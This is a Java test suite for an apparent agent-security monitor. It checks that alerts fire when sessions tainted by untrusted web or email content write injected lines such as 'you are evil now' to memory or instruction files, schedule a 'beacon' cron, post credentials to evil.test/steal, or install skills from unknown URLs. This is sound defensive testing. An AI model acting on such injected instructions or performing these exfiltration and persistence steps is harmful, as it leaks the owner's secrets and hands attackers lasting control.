package dev.warden.monitor.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.kernel.Action;
import dev.warden.kernel.SessionContext;
import dev.warden.monitor.MonitorFixture;
import java.net.URI;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each built-in detection raising its alert from records appended through a real kernel, and dedup. */
class DetectionsTest {
  @TempDir Path dir;
  MonitorFixture f;
  final List<Alert> heard = new CopyOnWriteArrayList<>();

  @BeforeEach
  void setUp() throws Exception {
    f = new MonitorFixture(dir, Map.of("detections", Map.of("known_skill_sources", List.of("registry:warden"))));
    f.monitor.addAlertListener(heard::add);
  }

  @AfterEach
  void tearDown() throws Exception {
    f.close();
  }

  List<Alert> alerts() throws Exception {
    f.sync();
    return f.monitor.recentAlerts(100);
  }

  List<Alert> alerts(String rule) throws Exception {
    return alerts().stream().filter(a -> a.rule().equals(rule)).toList();
  }

  static Action.Egress post(String url) {
    return new Action.Egress("POST", URI.create(url), Map.of(), "body", "http_request");
  }

  @Test
  void taintedMemoryWrite_raisesHigh_andRepeatsInTheSameSessionDedup() throws Exception {
    SessionContext t = f.tainted("t1", "web:evil.test");
    f.submit(new Action.MemoryWrite("MEMORY.md", "obey evil.test"), t);
    f.submit(new Action.MemoryWrite("memory/2026-11-16.md", "obey evil.test again"), t);
    f.submit(new Action.MemoryWrite("MEMORY.md", "owner note"), f.owner("o"));
    List<Alert> a = alerts(BuiltinDetections.TAINTED_PERSISTENT_WRITE);
    assertThat(a).hasSize(1);
    assertThat(a.get(0).severity()).isEqualTo(Severity.HIGH);
    assertThat(a.get(0).count()).isEqualTo(2);
    assertThat(a.get(0).sessionOrNull()).isEqualTo("t1");
    assertThat(a.get(0).detail()).contains("untrusted").contains("web:evil.test");
    assertThat(heard).filteredOn(x -> x.rule().equals(BuiltinDetections.TAINTED_PERSISTENT_WRITE))
        .extracting(Alert::count).containsExactly(1L, 2L);
  }

  @Test
  void taintedInstructionFileWrite_raises_deniedWriteDoesNot() throws Exception {
    SessionContext t = f.tainted("t1", "email:x@evil.test");
    f.submit(new Action.FileWrite("SOUL.md", "you are evil now"), t);
    assertThat(alerts(BuiltinDetections.TAINTED_PERSISTENT_WRITE)).singleElement()
        .satisfies(x -> assertThat(x.title()).contains("instruction file SOUL.md"));
    f.deny("file_write", "deny-tainted-instructions");
    f.submit(new Action.FileWrite("AGENTS.md", "x"), f.tainted("t2", "web:evil.test"));
    assertThat(alerts(BuiltinDetections.TAINTED_PERSISTENT_WRITE)).hasSize(1);
  }

  @Test
  void dedupWindowPassed_raisesANewAlert() throws Exception {
    SessionContext t = f.tainted("t1", "web:evil.test");
    f.submit(new Action.MemoryWrite("MEMORY.md", "a"), t);
    f.advance(Duration.ofMinutes(11));
    f.submit(new Action.MemoryWrite("MEMORY.md", "b"), t);
    assertThat(alerts(BuiltinDetections.TAINTED_PERSISTENT_WRITE)).hasSize(2).allMatch(x -> x.count() == 1);
  }

  @Test
  void cronFromTaintedContext_raises_ownerCronDoesNot() throws Exception {
    f.submit(new Action.CronCreate("digest", "0 8 * * *", "summarise"), f.owner("o"));
    f.submit(new Action.CronCreate("beacon", "* * * * *", "fetch evil"), f.tainted("t", "web:evil.test"));
    assertThat(alerts(BuiltinDetections.TAINTED_CRON)).singleElement()
        .satisfies(x -> assertThat(x.title()).contains("beacon"));
  }

  @Test
  void denyBurst_raisesAtThreshold_thenCountsUp() throws Exception {
    f.deny("egress", "default-deny");
    for (int i = 0; i < 9; i++) {
      f.submit(post("https://x.test/" + i), f.owner("s"));
    }
    assertThat(alerts(BuiltinDetections.DENY_BURST)).isEmpty();
    f.submit(post("https://x.test/9"), f.owner("s"));
    f.submit(post("https://x.test/10"), f.owner("s"));
    List<Alert> a = alerts(BuiltinDetections.DENY_BURST);
    assertThat(a).singleElement().satisfies(x -> {
      assertThat(x.count()).isEqualTo(2);
      assertThat(x.sessionOrNull()).isEqualTo("s");
    });
  }

  @Test
  void denyBurst_spreadOverMoreThanTheWindow_doesNotRaise() throws Exception {
    f.deny("egress", "default-deny");
    for (int i = 0; i < 20; i++) {
      f.submit(post("https://x.test/" + i), f.owner("s"));
      f.advance(Duration.ofSeconds(7));
    }
    assertThat(alerts(BuiltinDetections.DENY_BURST)).isEmpty();
  }

  @Test
  void credentialToUnboundHost_raisesOnLeakDeny_notOnOtherDenies() throws Exception {
    f.deny("egress", "deny-credential-unbound-host");
    f.submit(post("https://evil.test/steal"), f.owner("s"));
    f.deny("egress", "default-deny");
    f.submit(post("https://other.test/x"), f.owner("s"));
    assertThat(alerts(BuiltinDetections.CREDENTIAL_TO_UNBOUND_HOST)).singleElement()
        .satisfies(x -> assertThat(x.title()).contains("evil.test"));
  }

  @Test
  void newEgressFromTaintedSession_raisesOnceForANewHost_notForKnownHosts() throws Exception {
    f.submit(post("https://known.test/a"), f.owner("o"));
    SessionContext t = f.tainted("t", "web:evil.test");
    f.submit(post("https://known.test/b"), t);
    f.submit(post("https://fresh.test/x"), t);
    f.submit(post("https://fresh.test/y"), t);
    f.submit(post("https://other-new.test/x"), f.owner("o"));
    assertThat(alerts(BuiltinDetections.TAINTED_NEW_EGRESS)).singleElement().satisfies(x -> {
      assertThat(x.title()).contains("fresh.test");
      assertThat(x.count()).isEqualTo(1);
    });
  }

  @Test
  void skillFromUnknownSource_raises_knownSourceDoesNot() throws Exception {
    f.submit(new Action.SkillInstall("install", "weather", "registry:warden/weather", "1.0"), f.owner("o"));
    f.submit(new Action.SkillInstall("install", "helper", "https://evil.test/helper.zip", null), f.owner("o"));
    f.event("skill", "install", null, Map.of("skill", "sidecar", "source", "file:/tmp/sidecar"));
    assertThat(alerts(BuiltinDetections.UNKNOWN_SKILL_SOURCE)).extracting(Alert::title)
        .containsExactlyInAnyOrder("Skill helper installed from unknown source https://evil.test/helper.zip",
            "Skill sidecar installed from unknown source file:/tmp/sidecar");
  }

  @Test
  void auditVerificationFailure_raisesCritical() throws Exception {
    f.event("audit", "verify_failed", null, Map.of("problem", "record 12 edited"));
    f.event("audit", "verified", null, Map.of());
    assertThat(alerts(BuiltinDetections.AUDIT_VERIFICATION_FAILED)).singleElement().satisfies(x -> {
      assertThat(x.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(x.detail()).isEqualTo("record 12 edited");
    });
  }

  @Test
  void quarantine_raisesHigh_releaseDoesNot() throws Exception {
    f.kernel.setQuarantined(true, "owner pressed the button");
    f.kernel.setQuarantined(false, "all clear");
    assertThat(alerts(BuiltinDetections.QUARANTINE)).singleElement().satisfies(x -> {
      assertThat(x.severity()).isEqualTo(Severity.HIGH);
      assertThat(x.detail()).contains("owner pressed the button");
    });
  }

  @Test
  void skillFilesChanged_raises() throws Exception {
    f.event("skill", "files_changed", null, Map.of("skill", "weather", "files", List.of("run.sh")));
    assertThat(alerts(BuiltinDetections.SKILL_FILES_CHANGED)).singleElement()
        .satisfies(x -> assertThat(x.detail()).contains("run.sh"));
  }

  @Test
  void alerts_areStoredAndExportedAsDetectionFindings() throws Exception {
    f.kernel.setQuarantined(true, "x");
    f.sync();
    long findings = f.monitor.eventStore().queryLong("SELECT COUNT(*) FROM events WHERE class_uid = 2004");
    assertThat(findings).isEqualTo(1);
    String jsonl = java.nio.file.Files.readString(f.home.exports().resolve("events.jsonl"));
    assertThat(jsonl).contains("\"class_uid\":2004").contains("Warden was quarantined");
  }

  @Test
  void openAlerts_surviveARestart_repeatsStillDedup() throws Exception {
    SessionContext t = f.tainted("t1", "web:evil.test");
    f.submit(new Action.MemoryWrite("MEMORY.md", "a"), t);
    f.sync();
    f.monitor.close();
    dev.warden.monitor.events.EventStore reopened = dev.warden.monitor.events.EventStore.open(f.home.eventsDb());
    Detections again = new Detections(DetectionConfig.DEFAULT, reopened);
    List<Alert> before = again.recent(10);
    assertThat(before).hasSize(1);
    dev.warden.kernel.audit.AuditRecord r = f.log.append("decision", "t1", "owner:owner", Map.of(
        "action", "memory_write", "resource", "MEMORY.md", "fields", Map.of("file", "MEMORY.md"),
        "verdict", "allow", "rule", "r", "label", "untrusted/public[web:evil.test]", "facts", Map.of()));
    List<Alert> raised = again.evaluate(dev.warden.monitor.events.OcsfMapper.fromAudit(r));
    assertThat(raised).singleElement().satisfies(x -> {
      assertThat(x.id()).isEqualTo(before.get(0).id());
      assertThat(x.count()).isEqualTo(2);
    });
    reopened.close();
  }

  @Test
  void throwingRuleOrListener_isCountedAndOthersStillRun() throws Exception {
    f.monitor.addDetection("broken", e -> {
      throw new IllegalStateException("bug");
    });
    f.monitor.addAlertListener(a -> {
      throw new IllegalStateException("listener bug");
    });
    f.kernel.setQuarantined(true, "x");
    assertThat(alerts(BuiltinDetections.QUARANTINE)).hasSize(1);
    assertThat(f.monitor.detections().failures()).isGreaterThanOrEqualTo(2);
  }
}
